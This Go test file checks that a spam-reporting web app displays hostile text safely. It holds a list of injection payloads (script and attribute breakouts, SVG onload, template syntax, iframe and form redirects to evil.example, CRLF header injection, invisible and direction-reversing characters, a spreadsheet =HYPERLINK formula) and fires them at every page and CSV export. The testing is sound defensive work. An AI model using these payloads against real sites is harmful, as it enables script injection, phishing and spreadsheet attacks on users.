package web_test

import (
	"fmt"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"golang.org/x/net/html"

	"spamreport/relay"
	"spamreport/relay/suppress"
)

// attacks are texts that spam, registries, desks and mail servers send to do
// something to who reads them. Each carries its number, to be found again.
var attacks = map[string]string{
	"a script":                    "<script>attack('%d')</script>",
	"a script in an attribute":    "\" autofocus onfocus=\"attack('%d')",
	"an attribute without quotes": "x' onmouseover='attack(%d)' y='",
	"the end of a textarea":       "</textarea></pre></title></style><img src=x onerror=attack('%d')>",
	"a scripting address":         "javascript:attack('%d')",
	"a drawing":                   "<svg/onload=attack('%d')>",
	"a template":                  "{{.CSRF}} ${attack(%d)} {%% attack %%} <%%= attack %%>",
	"an entity":                   "&lt;script&gt;attack('%d')&lt;/script&gt;",
	"a comment":                   "<!--><script>attack('%d')</script-->",
	"a page of another":           "<iframe src=//evil.example/%d></iframe><base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>",
	"a form":                      "</form><form action=//evil.example/%d><button name=do value=approve>",
	"text turned around":          "invoice %d \u202efdp.exe\u2066\u2069",
	"hidden characters":           "pay\u200bpal %d \u00ad\ufeff\u2060\u180e",
	"control characters":          "x\x00%d\x1b[2J\x07\x9b31m\x7f",
	"no UTF-8":                    "\xff\xfe<script>%d\xc0\xbcscript\xc0\xbe",
	"line breaks":                 "one %d\r\nSet-Cookie: x=y\u2028\u2029two",
	"a formula":                   "=HYPERLINK(\"http://evil.example/%d\",\"x\")",
}

// besiege fills every field that others write with an attack. The address of a
// contact is checked when a complaint is composed, and cannot be one.
func (h *house) besiege() (incidents []string) {
	h.t.Helper()
	n := 0
	for name, format := range attacks {
		n++
		text := fmt.Sprintf(format, n)
		held := h.hold(spam{Number: n, Subject: text, From: text, Network: text})
		sent := h.hold(spam{Number: 100 + n, Subject: text, From: text, Network: text, Contact: fmt.Sprintf("abuse%d@isp.example", n)})
		h.approve(sent)
		state := relay.Delivered
		if n%2 == 0 {
			state = relay.Failed
		}
		h.deliver(state, relay.Reply{Code: 550, Status: "5.1.1", Text: text})
		h.replies(sent, text, text, text)
		if err := h.store.Visited(h.t.Context(), "home", "Junk", fmt.Errorf("%s: %s", name, text)); err != nil {
			h.t.Fatal(err)
		}
		if err := h.store.Suppress(h.t.Context(), suppress.Entry{Address: fmt.Sprintf("a%d@x.example", n), Reason: suppress.Hard, Source: text, Since: h.now}); err != nil {
			h.t.Fatal(err)
		}
		incidents = append(incidents, held.Complaint.Incident, sent.Complaint.Incident)
	}
	return incidents
}

// ours are the elements that our pages have.
var ours = regexp.MustCompile(`^(html|head|meta|title|link|script|body|a|header|svg|path|span|nav|b|div|button|form|input|main|p|footer|section|h1|h2|ul|li|dl|dt|dd|figure|details|summary|table|thead|tbody|tr|th|td|time|code|pre|ol|label|select|option|textarea|kbd|progress)$`)

// foreign are the elements and attributes of a page, as a browser reads it,
// that spam must have brought in.
func foreign(body string) (all []string) {
	page, err := html.Parse(strings.NewReader(body))
	if err != nil {
		return []string{err.Error()}
	}
	for n := range page.Descendants() {
		if n.Type != html.ElementNode {
			continue
		}
		if !ours.MatchString(n.Data) {
			all = append(all, "<"+n.Data+">")
		}
		for _, a := range n.Attr {
			switch a.Key {
			case "href", "src", "action", "formaction":
				if !strings.HasPrefix(a.Val, "/") && !strings.HasPrefix(a.Val, "#") || strings.HasPrefix(a.Val, "//") {
					all = append(all, "leads to "+a.Val)
				}
			case "style", "srcdoc":
				all = append(all, a.Key)
			default:
				if strings.HasPrefix(a.Key, "on") {
					all = append(all, a.Key)
				}
			}
		}
		if n.Data == "script" && n.FirstChild != nil {
			all = append(all, "a script on the page itself")
		}
	}
	return all
}

func TestWhatSpamWroteIsTextOnEveryPage(t *testing.T) {
	h := newHouse(t, nil)
	h.signIn()
	incidents := h.besiege()
	pages := everyPage(incidents[0])
	for _, incident := range incidents {
		pages = append(pages, "/complaints/"+incident)
	}
	for _, text := range attacks {
		pages = append(pages, "/complaints?"+url.Values{"q": {text}, "contact": {text}, "network": {text}}.Encode(),
			"/login?"+url.Values{"token": {text}}.Encode())
	}
	for _, page := range pages {
		a := h.get(page)
		if a.status >= 500 {
			t.Errorf("%s: %d", page, a.status)
		}
		for _, what := range foreign(a.body) {
			t.Errorf("%s: %s", page, what)
		}
		for _, r := range a.body {
			if r != '\n' && r != '\t' && (unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp)) {
				t.Errorf("%s: %U is on the page", page, r)
				break
			}
		}
	}
}

// A page that shows nothing is safe, too: each attack must be there to be read.
func TestWhatSpamWroteCanBeRead(t *testing.T) {
	h := newHouse(t, nil)
	h.signIn()
	h.hold(spam{Number: 1, Subject: "<b>win</b> & \"more\" \u202efdp", From: "x@x.example", Network: "NET"})
	body := h.get("/review").body
	if !strings.Contains(body, "&lt;b&gt;win&lt;/b&gt; &amp; &#34;more&#34; \ufffdfdp") {
		t.Errorf("the subject is not on the page:\n%s", body)
	}
}

func TestADownloadIsHarmlessInASpreadsheet(t *testing.T) {
	h := newHouse(t, nil)
	h.signIn()
	h.besiege()
	for _, kind := range []string{"messages", "complaints", "replies", "deliveries", "bounces", "suppressions"} {
		a := h.get("/download/" + kind + ".csv")
		if !strings.HasPrefix(a.header.Get("Content-Type"), "text/csv") || !strings.HasPrefix(a.header.Get("Content-Disposition"), "attachment") {
			t.Errorf("%s: %v", kind, a.header)
		}
		for line := range strings.Lines(a.body) {
			if strings.Contains(line, ",=") || strings.Contains(line, `,"=`) || strings.HasPrefix(line, "=") || strings.ContainsAny(strings.TrimRight(line, "\r\n"), "\x00\x1b\x07\r") {
				t.Errorf("%s: %q", kind, line)
			}
		}
		if n := strings.Count(a.body, "\n"); n <= len(attacks)/2 {
			t.Errorf("%s has %d lines", kind, n)
		}
	}
	if a := h.get("/download/../secrets.csv"); a.status == 200 && strings.HasPrefix(a.header.Get("Content-Type"), "text/csv") {
		t.Error("another file was handed out")
	}
}
